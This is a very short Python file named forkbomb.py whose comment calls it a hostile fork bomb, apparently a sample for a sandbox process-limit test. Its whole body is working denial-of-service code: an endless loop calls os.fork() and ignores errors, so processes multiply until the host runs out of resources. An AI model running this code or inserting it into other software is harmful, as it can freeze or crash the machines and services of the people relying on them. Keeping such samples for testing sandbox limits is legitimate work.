# forkbomb.py - hostile Python fork bomb (SANDBOX-PROCS): every process forks
# forever and ignores failures.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
